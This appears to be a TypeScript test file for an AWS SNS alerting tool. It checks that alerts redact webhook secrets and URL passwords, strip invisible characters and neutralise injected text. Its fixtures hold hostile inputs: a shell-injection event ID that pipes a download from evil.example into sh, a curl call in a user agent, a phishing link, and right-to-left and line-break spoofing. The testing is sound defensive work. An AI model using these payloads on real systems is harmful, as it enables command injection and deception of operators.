import { InvalidParameterException, SubscribeCommand } from '@aws-sdk/client-sns';
import fc from 'fast-check';
import { loadConfig } from '../../src/config';
import { buildAlert, SUBJECT_MAX, snsMessage } from '../../src/notify';
import { createTelemetry } from '../../src/telemetry';
import { compliant } from '../support/builders';
import { captureLines } from '../telemetry/capture';
import { runOn } from '../unit/support/run';
import { report, triggerOf, WEBHOOK, WEBHOOK_SECRET, webhookSubscribed } from './reports';

describe('subjects SNS accepts', () => {
  it('are printable ASCII on one line, at most 99 characters, whatever the event says', () => {
    const base = triggerOf('cloudtrail-delete-alarms');
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 300 }), (eventName, session) => {
        const actor = { arn: `arn:aws:sts::123456789012:assumed-role/Admin/${session}`, type: 'AssumedRole' };
        const trigger = { ...base, eventName, actor };
        const { subject } = buildAlert(report('NON_COMPLIANT', { trigger, findings: [session] }));
        expect(subject.length).toBeLessThanOrEqual(SUBJECT_MAX);
        expect(subject).toMatch(/^[\x20-\x7e]*$/);
        expect(subject.startsWith('CIS 4.10 not compliant after ')).toBe(true);
      }),
    );
  });
});

describe('webhook secrets', () => {
  const secretBearing = report('REPAIRED', {
    changes: [webhookSubscribed],
    findings: [`topic has no confirmed subscriber: ${WEBHOOK} awaiting confirmation`],
    errors: [
      {
        step: 'apply subscription',
        action: 'sns:Subscribe',
        resource: 'arn:aws:sns:us-east-1:123456789012:cis-monitoring-alarms',
        code: 'InvalidParameter',
        message: `Invalid parameter: Endpoint ${WEBHOOK}`,
      },
    ],
  });

  it('never reach any part of an alert, even when a finding or an SDK error quotes the endpoint', () => {
    const alert = buildAlert(secretBearing);
    const everything = [alert.subject, snsMessage(alert), JSON.stringify(alert.attributes)].join('\n');
    expect(everything).not.toContain(WEBHOOK_SECRET);
    expect(everything).not.toContain('token=abc123');
    expect(alert.text).toContain('https://hooks.example.com/…');
    expect(alert.text).toContain('subscription https:https://hooks.example.com/… created (Subscribe)');
  });
});

describe('lookup commands', () => {
  it('are left out when the event id is not safe to paste into a shell', () => {
    const trigger = { ...triggerOf('cloudtrail-delete-alarms'), eventId: 'x; curl evil.example | sh' };
    const alert = buildAlert(report('REPAIRED', { trigger, changes: [webhookSubscribed] }));
    expect(alert.text).not.toContain('lookup-events');
    expect(alert.text).toContain('Event ID:   x; curl evil.example | sh');
    expect(alert.document.lookup).toBeUndefined();
  });

  it.each([
    ['cn-north-1', 'https://console.amazonaws.cn/cloudtrailv2/home?region=cn-north-1#/events/'],
    ['us-gov-west-1', 'https://console.amazonaws-us-gov.com/cloudtrailv2/home?region=us-gov-west-1#/events/'],
    ['eu-west-1', 'https://eu-west-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-west-1#/events/'],
  ])('link to the console of the partition of %s', (region, prefix) => {
    const trigger = { ...triggerOf('cloudtrail-delete-alarms'), region };
    const alert = buildAlert(report('REPAIRED', { region, trigger, changes: [webhookSubscribed] }));
    expect(alert.document.lookup?.console).toBe(`${prefix}0b1c2d3e-4f50-4a61-8b72-93a4b5c6d7e8`);
    expect(alert.document.lookup?.cli[0]).toContain(`--region ${region} `);
  });
});

describe('secrets and tricks in text a caller controls', () => {
  const CREDENTIALS = 'https://alice:S3cr3t@hooks.example.com/x';
  // Bidirectional overrides and isolates, marks, and zero-width characters (issue 12 item 9).
  const INVISIBLE =
    '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\ufeff\u2060';
  const INVISIBLE_CHARS = new RegExp(`[${INVISIBLE}]`);

  function tricked(): ReturnType<typeof buildAlert> {
    const base = triggerOf('cloudtrail-delete-alarms');
    if (base.kind !== 'cloudtrail') throw new Error('the sample is a CloudTrail event');
    const actor = {
      arn: `arn:aws:sts::123456789012:assumed-role/Admin/ali\u202ece${INVISIBLE}`,
      type: 'AssumedRole',
      sourceIp: '203.0.113.24',
      userAgent: `Mozilla/5.0 (verify at https://aws-security-check.example/login?id=1) \u200bcurl http://evil.example`,
    };
    return buildAlert(
      report('REPAIRED', {
        trigger: { ...base, actor },
        changes: [webhookSubscribed],
        findings: [`subscriber ${CREDENTIALS} awaiting confirmation \u202egnp.exe`],
        errors: [
          {
            step: 'apply subscription',
            action: 'sns:Subscribe',
            resource: 'arn:aws:sns:us-east-1:123456789012:cis-monitoring-alarms',
            code: 'InvalidParameter',
            message: `Invalid parameter: Endpoint ${CREDENTIALS}`,
          },
        ],
      }),
    );
  }

  it('userinfo of a URL never reaches an alert; the host stays readable', () => {
    const alert = tricked();
    const everything = [alert.subject, snsMessage(alert)].join('\n');
    expect(everything).not.toContain('S3cr3t');
    expect(everything).not.toContain('alice:');
    expect(alert.text).toContain('https://***@hooks.example.com/…');
  });

  it('bidirectional and zero-width characters are stripped from the subject, the text and the JSON', () => {
    const alert = tricked();
    for (const part of [alert.subject, alert.text, JSON.stringify(alert.document), snsMessage(alert)]) {
      expect(part).not.toMatch(INVISIBLE_CHARS);
    }
    expect(alert.text).toContain(
      'Identity:   arn:aws:sts::123456789012:assumed-role/Admin/alice (AssumedRole)',
    );
    expect(alert.subject).toContain('by alice');
  });

  it('URLs inside CloudTrail fields become [url] in the text and the JSON; the enforcer’s own links stay', () => {
    const alert = tricked();
    const fromCaller = [alert.text, JSON.stringify(alert.document.trigger)].join('\n');
    expect(fromCaller).not.toContain('aws-security-check.example');
    expect(fromCaller).not.toContain('evil.example');
    expect(alert.text).toContain('User agent: Mozilla/5.0 (verify at [url]) curl [url]');
    expect(alert.document.trigger).toMatchObject({
      actor: { userAgent: 'Mozilla/5.0 (verify at [url]) curl [url]' },
    });
    expect(alert.text).toContain(
      'https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/',
    );
  });

  it('a line break inside a finding cannot forge a section of the alert', () => {
    const forged =
      'topic has no confirmed subscriber\n\nWho triggered it\n  Identity:   arn:aws:iam::123456789012:root';
    const alert = buildAlert(report('NON_COMPLIANT', { findings: [forged] }));
    expect(alert.text.split('\n').filter((line) => line === 'Who triggered it')).toHaveLength(1);
  });
});

describe('a webhook with a password in SUBSCRIPTIONS (https:https://alice:S3cr3t@hooks.example.com/x)', () => {
  const ENV = { SUBSCRIPTIONS: 'email:sec@example.com,https:https://alice:S3cr3t@hooks.example.com/x' };

  it('never reaches the report: change, reasons, findings, or an SDK error quoting the endpoint', async () => {
    const run = await runOn(compliant(), {
      env: ENV,
      arrange: (mocks) =>
        mocks.sns.on(SubscribeCommand).rejects(
          new InvalidParameterException({
            message: 'Invalid parameter: Endpoint https://alice:S3cr3t@hooks.example.com/x is unreachable',
            $metadata: {},
          }),
        ),
    });
    expect(run.writes.map((w) => w.command)).toEqual(['SubscribeCommand']);
    expect(run.report.status).toBe('ERROR');
    expect(JSON.stringify(run.report)).not.toContain('S3cr3t');
    expect(run.report.errors[0]?.message).toBe(
      'Invalid parameter: Endpoint https://***@hooks.example.com/… is unreachable',
    );
  });

  it('never reaches a log line', () => {
    const telemetry = createTelemetry({ logLevel: 'INFO', metricsNamespace: 'N' });
    const error = {
      step: 's',
      action: 'sns:Subscribe',
      resource: 'r',
      code: 'X',
      message: 'at https://alice:S3cr3t@hooks.example.com/x',
    };
    const { raw } = captureLines(() => telemetry.finish(report('ERROR', { errors: [error] })));
    expect(raw).toContain('https://***@hooks.example.com/…');
    expect(raw).not.toContain('S3cr3t');
  });

  it('a malformed entry is named in the configuration error without its password', () => {
    expect(() =>
      loadConfig({ AWS_REGION: 'us-east-1', SUBSCRIPTIONS: 'https:http://alice:S3cr3t@hooks.example.com/x' }),
    ).toThrow(
      /SUBSCRIPTIONS entry "https:http:\/\/\*\*\*@hooks\.example\.com\/…" has an invalid https endpoint/,
    );
    expect(() =>
      loadConfig({ AWS_REGION: 'us-east-1', SUBSCRIPTIONS: 'https:http://alice:S3cr3t@hooks.example.com/x' }),
    ).not.toThrow(/S3cr3t/);
  });
});
